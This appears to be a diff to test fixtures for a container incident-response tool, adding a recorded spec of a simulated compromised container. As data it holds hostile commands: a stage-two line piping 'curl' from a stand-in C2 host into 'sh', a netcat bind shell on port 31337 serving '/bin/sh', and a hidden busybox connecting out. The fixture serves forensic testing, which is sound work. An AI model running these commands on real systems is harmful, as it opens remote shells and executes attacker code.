@@ -3,7 +3,9 @@
 `build_bundle(directory, spec)` writes a sealed bundle through the real BundleWriter, laid out as
 ir/records describes (containers/<name>/processes.jsonl, ..., k8s/*.json, alert.json), with the
 writer's clock frozen so the same spec gives the same bytes. `compromised_spec()` plants the facts
-the replay views must show; `clean_spec()` is its clean replacement for `ir bundle diff`.
+the replay views must show; `clean_spec()` is its clean replacement for `ir bundle diff`;
+`sample_container_spec()` is what `ir capture container` records of samples/compromised/ (the
+shapes of a real capture, the times of the run the fidelity issue reported).
 """
 
 from __future__ import annotations
@@ -721,6 +723,198 @@ def compromised_spec() -> BundleSpec:
         custody=[
             ("respond", {"action": "quarantine", "networkpolicy": "ir-quarantine-web-7f9c"}),
             ("respond", {"action": "replace", "new_pod": "web-8d2e"}),
+        ],
+    )
+
+
+# -- the sample compromised container (samples/compromised/compromised.sh) ----------------------
+
+BUSYBOX = b"\x7fELF\x02\x01\x01" + b"busybox" * 16
+STAGE2 = b"#!/bin/sh\nIR-SAMPLE stage2: curl -s http://c2.invalid/x | sh\n"
+# What the sample does, as ir records it: the runtime's nanosecond times, process starts from the
+# boot clock (btime in whole seconds + 10 ms ticks: they read before the runtime's "started"), a
+# whiteout's nanosecond ctime for /etc/motd (deleted ~90 s after the start), the C2 pair on
+# loopback whose `nc -l` listener closed after accepting.
+SAMPLE = {
+    "container": "ir-compromised",
+    "created": "2025-03-14T10:00:44.702815311Z",
+    "started": "2025-03-14T10:00:45.771234567Z",
+    "image_created": "2025-03-14T06:00:00.123456789Z",
+    "init_start": "2025-03-14T10:00:45.130000Z",
+    "motd_deleted": "2025-03-14T10:02:15.512345678Z",
+    "motd_image_mtime": "2025-03-14T06:00:00.000000000Z",
+    "stage2_written": "2025-03-14T10:00:45.801234567Z",
+    "accepted": ("::ffff:127.0.0.1", 4444, 50778),  # the end `nc -l -p 4444` accepted
+    "connected": ("127.0.0.1", 50778, 4444),  # /tmp/.x/busybox nc 127.0.0.1 4444
+    "listener": 31337,
+}
+
+
+def sample_container_spec() -> BundleSpec:
+    name = SAMPLE["container"]
+    assert isinstance(name, str)
+
+    def proc(pid: int, ns_pid: int, start: str, cmdline: list[str], **kw: Any) -> ProcessRecord:
+        return ProcessRecord(
+            pid=pid,
+            ppid=kw.pop("ppid", 9100),
+            ns_pid=ns_pid,
+            uid=0,
+            user="root",
+            name=cmdline[0].rsplit("/", 1)[-1],
+            cmdline=cmdline,
+            exe=kw.pop("exe", "/bin/busybox"),
+            exe_sha256=kw.pop("exe_sha256", "4" * 64),
+            start_time=t(start),
+            state="S",
+            source="procfs",
+            **kw,
+        )
+
+    busybox_sha = hashlib.sha256(BUSYBOX).hexdigest()
+    container = ContainerSpec(
+        inspect={
+            "Id": "5a3c" * 16,
+            "Name": f"/{name}",
+            "Created": SAMPLE["created"],
+            "Image": "sha256:" + "cd" * 32,
+            "State": {
+                "Status": "running",
+                "StartedAt": SAMPLE["started"],
+                "FinishedAt": "0001-01-01T00:00:00Z",
+                "Pid": 9101,
+            },
+            "Config": {"Image": "ir-testbed/busybox:latest"},
+        },
+        image={  # as ir writes image.json: the inspect document and the history
+            "inspect": {
+                "Id": "sha256:" + "cd" * 32,
+                "RepoTags": ["ir-testbed/busybox:latest"],
+                "Created": SAMPLE["image_created"],
+            },
+            "history": [],
+        },
+        network={
+            "netns": "net:[4026532401]",
+            "source": "procfs",
+            "interfaces": [
+                {"name": "lo", "addresses": [{"address": "127.0.0.1", "family": "inet"}]},
+                {"name": "eth0", "addresses": [{"address": "172.31.254.2", "family": "inet"}]},
+            ],
+            "routes": [],
+            "socket_tables": {t: "read" for t in ("tcp", "tcp6", "udp", "udp6", "unix")},
+        },
+        processes=[
+            proc(9101, 1, "10:00:45.130000", ["sh", "/sample/compromised.sh"]),
+            proc(9120, 10, "10:00:45.350000", ["sleep", "1000000"], ppid=9101),
+            proc(9121, 11, "10:00:45.350000", ["nc", "-l", "-p", "4444"], ppid=9101),
+            proc(
+                9122,
+                12,
+                "10:00:45.350000",
+                ["nc", "-ll", "-p", "31337", "-e", "/bin/sh"],
+                ppid=9101,
+            ),
+            proc(
+                9140,
+                20,
+                "10:00:45.410000",
+                ["/tmp/.x/busybox", "nc", "127.0.0.1", "4444"],
+                ppid=9101,
+                exe="/tmp/.x/busybox (deleted)",
+                exe_sha256=busybox_sha,
+                exe_deleted=True,
+            ),
+            proc(9150, 30, "10:02:15.520000", ["sleep", "3600"], ppid=9101),
+        ],
+        sockets=[
+            SocketRecord(
+                "tcp",
+                "127.0.0.1",
+                50778,
+                "127.0.0.1",
+                4444,
+                "ESTABLISHED",
+                7001,
+                0,
+                9140,
+                "busybox",
+            ),
+            SocketRecord("tcp6", "::", 31337, "::", 0, "LISTEN", 7002, 0, 9122, "nc"),
+            SocketRecord(
+                "tcp6",
+                "::ffff:127.0.0.1",
+                4444,
+                "::ffff:127.0.0.1",
+                50778,
+                "ESTABLISHED",
+                7003,
+                0,
+                9121,
+                "nc",
+            ),
+        ],
+        changes=[
+            change(
+                "/etc",
+                "changed",
+                type="dir",
+                mode="0755",
+                mtime=SAMPLE["motd_deleted"],
+            ),
+            FileChange(
+                path="/etc/motd",
+                change="deleted",
+                type="file",
+                size=28,
+                mode="0644",
+                uid=0,
+                gid=0,
+                ctime=SAMPLE["motd_deleted"],
+                note="deleted: the whiteout's ctime is when; the file's mtime in the image: "
+                + SAMPLE["motd_image_mtime"],
+            ),
+            change(
+                "/tmp", "changed", type="dir", mode="1777", mtime="2025-03-14T10:00:45.832101211Z"
+            ),
+            change("/var/tmp", "changed", type="dir", mode="1777", mtime=SAMPLE["stage2_written"]),
+            change(
+                "/var/tmp/.cache", "added", type="dir", mode="0755", mtime=SAMPLE["stage2_written"]
+            ),
+            change(
+                "/var/tmp/.cache/stage2.sh",
+                "added",
+                content=STAGE2,
+                mode="0755",
+                mtime=SAMPLE["stage2_written"],
+                ctime="2025-03-14T10:00:45.801534001Z",
+            ),
+        ],
+        files={"/var/tmp/.cache/stage2.sh": STAGE2},
+        deleted_exes={busybox_sha: BUSYBOX},
+        logs={
+            "current": [
+                log(t("10:00:45.900113"), "compromised: ready", container=name),
+                log(
+                    t("10:00:45.900262"),
+                    "compromised: this line goes to stderr",
+                    "stderr",
+                    container=name,
+                ),
+            ]
+        },
+    )
+    return BundleSpec(
+        bundle_id="3c0ffee0-5a3c-4d1e-9b2a-6f7e8d9c0b1a",
+        case_id="SAMPLE-1",
+        target={"kind": "container", "name": name, "id": "5a3c" * 16},
+        reason="the sample compromised container",
+        operator="root",
+        containers={name: container},
+        actions=[
+            ("docker.inspect-container", f"container {name}", {"ref": name}),
+            ("procfs.read-sockets", f"container {name}", {"init_pid": 9101}),
+            ("docker.logs", f"container {name}", {"timestamps": True}),
         ],
     )
 
